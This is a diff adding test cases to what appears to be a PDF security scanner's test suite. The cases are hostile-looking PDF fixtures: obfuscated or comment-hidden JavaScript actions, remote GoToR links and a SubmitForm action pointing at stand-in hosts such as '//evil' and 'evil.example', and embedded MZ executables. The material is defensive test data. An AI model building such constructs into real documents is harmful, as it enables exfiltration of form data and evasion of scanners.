@@ -45,6 +45,7 @@ describe('PDF', () => {
       pdfWith('<</S/GoToR/F(other.pdf)/D(p1)>>', '<</S/GoToR/F<</F(a b.pdf)/UF(a b.pdf)>>>>'),
     ],
     ['names that are kept elsewhere', 'a.pdf', pdfWith('<</S 11 0 R/Font<</S 12 0 R>>>>', '/P', '<<>>')],
+    ['one behind a lock, whose objects lie open', 'a.pdf', pdfWith('<<>>', '<</Encrypt 9 0 R>>')],
     ['a thread of its own', 'a.pdf', pdfWith('<</S/Thread/D 0>>')],
     ['one that says the same twice', 'a.pdf', pdfWith('<</Type/ExtGState/Type/ExtGState/CA 1/CA 1>>')],
     ['one with two titles', 'a.pdf', pdfWith('<</Title(One)/Title(Two)>>')],
@@ -80,6 +81,7 @@ describe('PDF', () => {
       ['a script with another spelling', 'a.pdf', pdfWith('<</S/J#61v#61Script/#4aS(app.alert(1))>>')],
       ['a script at opening', 'a.pdf', pdfWith('<</OpenAction<</S /JavaScript /JS 9 0 R>>>>')],
       ['scripts by name', 'a.pdf', pdfWith('<</Names<</JavaScript 9 0 R>>>>')],
+      ['a script in a comment', 'a.pdf', pdfWith('<<>>\n% <</S/JavaScript>>')],
       ['a script in a list', 'a.pdf', pdfWith('[[<</Next[<</JS(1)>>]>>]]')],
       ['a script among packed objects', 'a.pdf', pdfWith(objectStream('<</S/JavaScript/JS(1)>>'))],
       [
@@ -164,6 +166,7 @@ describe('PDF', () => {
         'a.pdf',
         pdfWith('<</S/GoToR/F<</F(a.pdf)/UF(//evil/a.pdf)>>>>'),
       ],
+      ['a way into another file, named for one system', 'a.pdf', pdfWith('<</S/GoToR/F<</DOS(//evil/a)>>>>')],
       ['a way into another file, named elsewhere', 'a.pdf', pdfWith('<</S/GoToR/F 9 0 R>>')],
       ['answers that are sent away', 'a.pdf', pdfWith('<</S/SubmitForm/F(https://evil.example)>>')],
       ['an attachment that nothing names', 'a.pdf', pdfWith('<</Type/EmbeddedFile>>stream\nMZ\nendstream')],
@@ -188,7 +191,17 @@ describe('PDF', () => {
       ['a document in its place', 'a.pdf', pdfWith('<</AdditionalStreams[/application#2Fodt 9 0 R]>>')],
       ['an attachment, packed', 'a.pdf', drawnPdf({ attachment: docx, compress: true })],
       ['an attachment as it is', 'a.pdf', drawnPdf({ attachment: docx, compress: false })],
+      [
+        'an attachment that only begins as XML',
+        'a.pdf',
+        drawnPdf({ attachment: Buffer.from('<?xml version="1.0"?>\0MZ') }),
+      ],
       ['an attachment among packed objects', 'a.pdf', packed],
+      [
+        'an attachment that is named elsewhere',
+        'a.pdf',
+        pdfWith('<</EF 11 0 R>>', '<</F 12 0 R>>', '<<>>stream\nMZ\nendstream'),
+      ],
       ['an attachment that is not there', 'a.pdf', pdfWith('<</EF<</F 99 0 R>>>>')],
       ['packed objects behind a lock', 'a.pdf', pdfWith(objectStream('<<>>'), '<</Encrypt 9 0 R>>')],
       [
